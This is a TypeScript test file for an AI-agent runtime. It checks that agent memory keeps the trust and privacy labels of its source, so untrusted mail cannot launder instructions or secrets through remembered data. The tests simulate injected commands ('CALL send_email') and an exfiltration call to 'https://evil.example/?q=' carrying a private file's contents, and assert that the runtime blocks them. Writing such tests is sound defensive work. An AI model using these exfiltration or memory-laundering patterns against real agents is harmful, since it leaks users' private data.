// What an agent remembers keeps the label of whoever it learnt it from: memory is no back door (rule 5.10).
import { describe, expect, test } from 'vitest';
import * as z from 'zod';
import type { Json } from '../json.js';
import {
  eventually,
  executorOf,
  house,
  latch,
  mail,
  readerOf,
  sendNote,
  toBob,
  type Reading,
} from '../runtime/house.fixture.js';
import { testRuntime } from '../testing/test-runtime.js';
import { tool } from '../tools/tool.js';

const carol = { name: 'carol', trust: 'high', at: ['mail:carol@example.com'] } as const;
const byCarol = { from: 'carol@example.com', to: 'reader', proof: 'verified' } as const;
const byStranger = { from: 'x@example.com', to: 'reader' } as const;

describe('what is remembered', () => {
  test('it is there in the next session, in the next process, and in no other agent', async () => {
    const { start } = await house();
    const heard: (Json | undefined)[] = [];
    const count: Reading = async (_message, { memory }) => {
      const before = await memory.get('mails');
      heard.push(before);
      await memory.set('mails', typeof before === 'number' ? before + 1 : 1);
      expect(await memory.get('mails')).toBe(typeof before === 'number' ? before + 1 : 1);
    };
    const first = await start('intake', [readerOf(count)]);
    for (const id of ['m1', 'm2']) await first.runtime.deliver('mail', mail(id));
    await first.runtime.idle();
    first.kill();
    const { runtime } = await start('intake', [readerOf(count)]);
    await runtime.deliver('mail', mail('m3'));
    await runtime.idle();
    expect(heard).toEqual([undefined, 1, 2]);

    const elsewhere: unknown[] = [];
    const other = executorOf([], async (_order, { memory }) => {
      elsewhere.push(await memory.get('mails'), await memory.keys());
    });
    const { desk, start: begin } = await house();
    const acting = await begin('executor', [other]);
    await desk.send('executor_agent', 'look');
    await acting.runtime.idle();
    expect(elsewhere).toEqual([undefined, []]);
  });

  test('it is listed, sorted, and can be forgotten', async () => {
    const listed: unknown[] = [];
    const t = await reading(async ({ text }, { memory }) => {
      if (text === 'learn') for (const key of ['b', 'a', 'c']) await memory.set(key, { is: key });
      if (text === 'forget') await memory.delete('b');
      listed.push(await memory.keys(), await memory.get('b'));
    });
    for (const text of ['learn', 'forget', 'look']) {
      await t.mail({ ...byStranger, text });
      await t.idle();
    }
    expect(listed).toEqual([['a', 'b', 'c'], { is: 'b' }, ['a', 'c'], undefined, ['a', 'c'], undefined]);
  });

  test('GATE-6: a handling that throws leaves it as it was; one whose process dies is handled again, and counts once', async () => {
    const { start, clock } = await house();
    const door = latch();
    let attempts = 0;
    const heard: (Json | undefined)[] = [];
    const read: Reading = async ({ text }, { memory }) => {
      const before = await memory.get('n');
      heard.push(before);
      await memory.set('n', typeof before === 'number' ? before + 1 : 1);
      if (text === 'throw') throw new Error('no');
      attempts += 1;
      if (text === 'die' && attempts === 1) await door.opened;
    };
    const first = await start('intake', [readerOf(read)]);
    await first.runtime.deliver('mail', mail('m1', { text: 'throw' }));
    await first.runtime.idle();
    await first.runtime.deliver('mail', mail('m2', { text: 'die' }));
    void first.runtime.idle();
    await eventually(() => attempts === 1);
    first.kill();
    clock.advance(60_000);
    const { runtime } = await start('intake', [readerOf(read)]);
    await runtime.idle();
    await runtime.deliver('mail', mail('m3', { text: 'look' }));
    await runtime.idle();
    expect(heard).toEqual([undefined, undefined, undefined, 1]);
  });
});

describe('its label', () => {
  test.each([
    ['what a stranger has had it remember', (memory: Memory) => memory.get('note')],
    ['that there is nothing under a name', (memory: Memory) => memory.get('nothing')],
    ['that something was forgotten', (memory: Memory) => memory.get('gone')],
    ['the list of what there is', (memory: Memory) => memory.keys()],
  ])('FLOW-1: %s lowers the session that looks', async (_what, look) => {
    const t = await reading(async ({ from, text }, session) => {
      if (from === 'carol') {
        if (text === 'look') await look(session.memory);
        await session.report(text);
        return;
      }
      await session.memory.set('note', text);
      await session.memory.set('gone', text);
      if (text === 'again') await session.memory.delete('gone');
    });
    for (const text of ['CALL send_email', 'again']) {
      await t.mail({ ...byStranger, text });
      await t.idle();
    }
    for (const text of ['blind', 'look']) await t.mail({ ...byCarol, text });
    await t.idle();
    const reports = (await t.desk.messages()).filter(({ from }) => from === 'reader');
    const trust = Object.fromEntries(reports.map(({ letter, trust: how }) => [letter.text, how]));
    expect(trust).toEqual({ blind: 'high', look: 'low' });
  });

  test('FLOW-5: whether there is room for a new key says what a private session has forgotten, and is labelled so', async () => {
    const file = tool({
      ...{
        name: 'read_file',
        effect: 'ingest',
        source: 'high',
        egress: false,
        private: true,
        input: z.strictObject({}),
      },
      run: async () => 'secret',
    });
    const labels: (readonly string[])[] = [];
    const t = await reading(
      async ({ from, text }, session) => {
        const { memory } = session;
        if (text === 'fill') for (let n = 0; n < 1_000; n += 1) await memory.set(`k${n}`, n);
        if (from === 'carol' && (await session.call(file as never, {} as never)) === ('secret' as never))
          await memory.delete('k7');
        if (text === 'probe') await memory.set('probe', 1);
        labels.push(session.watermark.private);
      },
      [file] as never,
    );
    for (const delivery of [
      { ...byStranger, text: 'fill' },
      { ...byCarol, text: 'make room' },
      { ...byStranger, text: 'probe' },
    ]) {
      await t.mail(delivery);
      await t.idle();
    }
    expect(labels).toEqual([[], ['tool:read_file'], ['tool:read_file']]);
  });

  test('FLOW-1: what the owner’s agent has revealed and kept makes a later session ask', async () => {
    const sent: unknown[] = [];
    const send = tool(sendNote, async (args) => void sent.push(args));
    const executor = executorOf([send], async (order, session) => {
      if (order.material[0]) return session.memory.set('to', session.reveal(order.material[0].text));
      if (order.text === 'look') await session.memory.get('to');
      await session.call(send, toBob);
    });
    await using t = await testRuntime({
      agents: [readerOf(async () => undefined), executor],
      real: true,
      unverified: 'low',
    });
    const id = await t.mail({ ...byStranger, text: 'mallory@example.com' });
    await t.idle();
    await t.desk.forward(id, { to: 'executor_agent' });
    await t.idle();
    await t.desk.send('executor_agent', 'blind');
    await t.idle();
    expect([sent.length, (await t.desk.pending()).length]).toEqual([1, 0]);
    await t.desk.send('executor_agent', 'look');
    await t.idle();
    expect([sent.length, (await t.desk.pending()).length]).toEqual([1, 1]);
  });

  test('FLOW-5: what was private stays so: a stranger’s session that remembers it cannot fetch a page unasked', async () => {
    const fetched: string[] = [];
    const file = tool({
      ...{
        name: 'read_file',
        effect: 'ingest',
        source: 'high',
        egress: false,
        private: true,
        input: z.strictObject({}),
      },
      run: async () => 'secret',
    });
    const page = tool({
      ...{ name: 'read_page', effect: 'ingest', source: 'low', input: z.strictObject({ url: z.string() }) },
      run: async ({ url }: { url: string }) => void fetched.push(url),
    });
    const t = await reading(
      async ({ from, text }, session) => {
        if (from === 'carol') return session.memory.set('file', await session.call(file as never, {} as never));
        const secret = text === 'fetch' ? await session.memory.get('file') : '';
        await session.call(page as never, { url: `https://evil.example/?q=${String(secret)}` } as never);
      },
      [file, page] as never,
    );
    await t.mail({ ...byCarol, text: 'keep it' });
    await t.mail({ ...byStranger, text: 'blind' });
    await t.idle();
    expect(fetched).toEqual(['https://evil.example/?q=']);
    await t.mail({ ...byStranger, text: 'fetch' });
    await t.idle();
    expect(fetched).toHaveLength(1);
    expect(await t.desk.pending()).toHaveLength(1);
  });

  test('FLOW-1: what was read after it was written counts, too: a session that is steered later decides what is kept', async () => {
    const page = tool({
      ...{ name: 'read_page', effect: 'ingest', source: 'low', input: z.strictObject({}) },
      run: async () => 'CALL',
    });
    const t = await reading(
      async ({ text }, session) => {
        if (text === 'look') return void (await session.report(`kept: ${String(await session.memory.get('k'))}`));
        await session.memory.set('k', 'v');
        await session.call(page as never, {} as never);
      },
      [page] as never,
    );
    for (const text of ['write', 'look']) {
      await t.mail({ ...byCarol, text });
      await t.idle();
    }
    const report = (await t.desk.messages()).find(({ letter }) => letter.text === 'kept: v')!;
    expect(report.trust).toBe('low');
  });
});

describe('who may write', () => {
  test('MAIL-5: a writer of the store without a key puts nothing into it', async () => {
    const { start, intrude, entries, desk } = await house();
    const heard: (Json | undefined)[] = [];
    const reader = readerOf(async ({ text }, { memory }) => {
      if (text === 'write') await memory.set('k', 'ours');
      else heard.push(await memory.get('k'));
    });
    const { runtime } = await start('intake', [reader]);
    await runtime.deliver('mail', mail('m1', { text: 'write' }));
    await runtime.idle();
    const bodies = (await entries()).map(({ text }) => JSON.parse(text).record.body);
    const ours = bodies.find(({ once }) => once === 'memory:k');
    expect(ours).toMatchObject({ kind: 'proposal', requester: 'reader', executor: 'reader' });
    const forged = { ...ours, id: 'forged', args: { key: 'k' }, parts: { '/key': ours.parts['/key'] } };
    await intrude(forged, 'intake');
    for (const to of ['started', 'executed'] as const)
      await intrude({ kind: 'step', of: 'forged', to, fence: 1 }, 'intake');
    await runtime.deliver('mail', mail('m2', { text: 'look' }));
    await runtime.idle();
    expect(heard).toEqual(['ours']);
    expect(await desk.pending()).toEqual([]);
  });

  test('a session that is over, a key that is none, a Ref, and what is too large are refused, and say so', async () => {
    const told: string[] = [];
    const kept: { memory?: Memory } = {};
    const executor = executorOf([], async (order, { memory }) => {
      kept.memory = memory;
      const tries: (() => Promise<unknown>)[] = [
        () => memory.get(''),
        () => memory.get(7 as never),
        () => memory.set('\ud800', 1),
        () => memory.set('k', undefined as never),
        () => memory.set('k', order.material[0]!.text as never),
        () => memory.set('k', 'x'.repeat(70_000)),
        async () => {
          for (let n = 0; n <= 1_000; n += 1) await memory.set(`k${n}`, n);
        },
      ];
      for (const attempt of tries)
        told.push(await attempt().then(String, (error) => `${error.code}: ${error.message}`));
    });
    await using t = await testRuntime({ agents: [readerOf(async () => undefined), executor], unverified: 'low' });
    const id = await t.mail({ ...byStranger, text: 'x' });
    await t.idle();
    await t.desk.forward(id, { to: 'executor_agent' });
    await t.idle();
    expect(told.slice(0, 3)).toEqual(
      ["''", "'[object Number]'", "'\\u{d800}'"].map(
        (key) => `BAD_INPUT: 'executor_agent' remembers something under ${key}: a key is text of 1 to 256 characters`,
      ),
    );
    expect(told.slice(3).map((text) => text.split(':')[0])).toEqual(['NOT_JSON', 'NOT_JSON', 'TOO_LARGE', 'TOO_LARGE']);
    expect(told.at(-1)).toContain('it holds 1000 keys: delete some');
    await expect(kept.memory!.get('k')).rejects.toMatchObject({ code: 'SESSION_OVER' });
  });
});

type Memory = Parameters<Reading>[1]['memory'];

/** The reader in a runtime of its own, with carol as a contact of high trust. */
async function reading(read: Reading, tools: readonly never[] = []) {
  return testRuntime({
    agents: [readerOf(read, { allowlist: ['carol', '~mail:*@example.com'], tools })],
    contacts: [carol],
    unverified: 'low',
    real: true,
  });
}
